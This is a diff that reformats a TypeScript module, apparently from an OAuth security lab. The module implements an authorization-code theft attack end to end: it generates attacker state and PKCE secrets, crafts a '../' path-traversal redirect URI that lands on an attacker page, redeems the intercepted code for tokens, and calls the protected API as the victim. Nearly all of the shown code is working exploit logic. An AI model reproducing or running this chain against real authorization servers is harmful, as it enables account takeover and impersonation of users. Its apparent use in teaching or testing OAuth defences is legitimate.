@@ -71,7 +71,10 @@ export async function discover(config: LabConfig): Promise<oauth.AuthorizationSe
 /** The attacker makes its own state and PKCE pair (RFC 7636 §4.1-4.2), and keeps the verifier. */
 export async function createAttackerSecrets(): Promise<AttackerSecrets> {
   const verifier = oauth.generateRandomCodeVerifier();
-  return {state: oauth.generateRandomState(), pkce: {verifier, challenge: await oauth.calculatePKCECodeChallenge(verifier), method: 'S256'}};
+  return {
+    state: oauth.generateRandomState(),
+    pkce: {verifier, challenge: await oauth.calculatePKCECodeChallenge(verifier), method: 'S256'},
+  };
 }
 
 /**
@@ -81,11 +84,13 @@ export async function createAttackerSecrets(): Promise<AttackerSecrets> {
 export function craftRedirectUri(registered: string, attackerPage: string): string {
   const from = new URL(registered);
   const to = new URL(attackerPage);
-  if (from.origin !== to.origin) throw new Error('The attacker needs a page on the same origin as the registered redirect URI.');
+  if (from.origin !== to.origin)
+    throw new Error('The attacker needs a page on the same origin as the registered redirect URI.');
   const fromSegments = from.pathname.split('/').slice(1);
   const toSegments = to.pathname.split('/').slice(1);
   let shared = 0;
-  while (shared < Math.min(fromSegments.length, toSegments.length) - 1 && fromSegments[shared] === toSegments[shared]) shared++;
+  while (shared < Math.min(fromSegments.length, toSegments.length) - 1 && fromSegments[shared] === toSegments[shared])
+    shared++;
   // The registered URI counts as a folder: each of its segments past the shared ones is one `..`.
   const crafted = `${registered}/${'../'.repeat(fromSegments.length - shared)}${toSegments.slice(shared).join('/')}`;
   if (new URL(crafted).href !== to.href) throw new Error(`${crafted} does not resolve to ${attackerPage}.`);
@@ -125,20 +130,49 @@ export async function checkLink(authorizationUrl: string, config: LabConfig): Pr
  * The attacker's page read the code from its own address. The attacker redeems it with its verifier and
  * the same crafted redirect URI, which is what the server bound the code to (RFC 6749 §4.1.3).
  */
-export async function redeemCode(as: oauth.AuthorizationServer, config: LabConfig, secrets: AttackerSecrets, landedUrl: URL | string): Promise<RedeemOutcome> {
+export async function redeemCode(
+  as: oauth.AuthorizationServer,
+  config: LabConfig,
+  secrets: AttackerSecrets,
+  landedUrl: URL | string,
+): Promise<RedeemOutcome> {
   const parameters = oauth.validateAuthResponse(as, client(config), new URL(landedUrl), secrets.state);
   const redirectUri = craftRedirectUri(config.registeredRedirectUri, config.attackerPage);
-  const response = await oauth.authorizationCodeGrantRequest(as, client(config), oauth.None(), parameters, redirectUri, secrets.pkce.verifier, httpOptions(config));
+  const response = await oauth.authorizationCodeGrantRequest(
+    as,
+    client(config),
+    oauth.None(),
+    parameters,
+    redirectUri,
+    secrets.pkce.verifier,
+    httpOptions(config),
+  );
   try {
     return {redeemed: true, tokens: await oauth.processAuthorizationCodeResponse(as, client(config), response)};
   } catch (error) {
     if (!(error instanceof oauth.ResponseBodyError)) throw error;
-    return {redeemed: false, status: error.status, error: error.error, ...(error.error_description ? {error_description: error.error_description} : {})};
+    return {
+      redeemed: false,
+      status: error.status,
+      error: error.error,
+      ...(error.error_description ? {error_description: error.error_description} : {}),
+    };
   }
 }
 
 /** The attacker calls the API as the victim, with the access token it got (RFC 6750 §2.1). */
-export async function callApi(url: string, accessToken: string, config: LabConfig): Promise<{status: number; body: unknown}> {
-  const response = await oauth.protectedResourceRequest(accessToken, 'GET', new URL(url), new Headers({accept: 'application/json'}), null, httpOptions(config));
+export async function callApi(
+  url: string,
+  accessToken: string,
+  config: LabConfig,
+): Promise<{status: number; body: unknown}> {
+  const response = await oauth.protectedResourceRequest(
+    accessToken,
+    'GET',
+    new URL(url),
+    new Headers({accept: 'application/json'}),
+    null,
+    httpOptions(config),
+  );
   return {status: response.status, body: await response.json().catch(() => null)};
 }
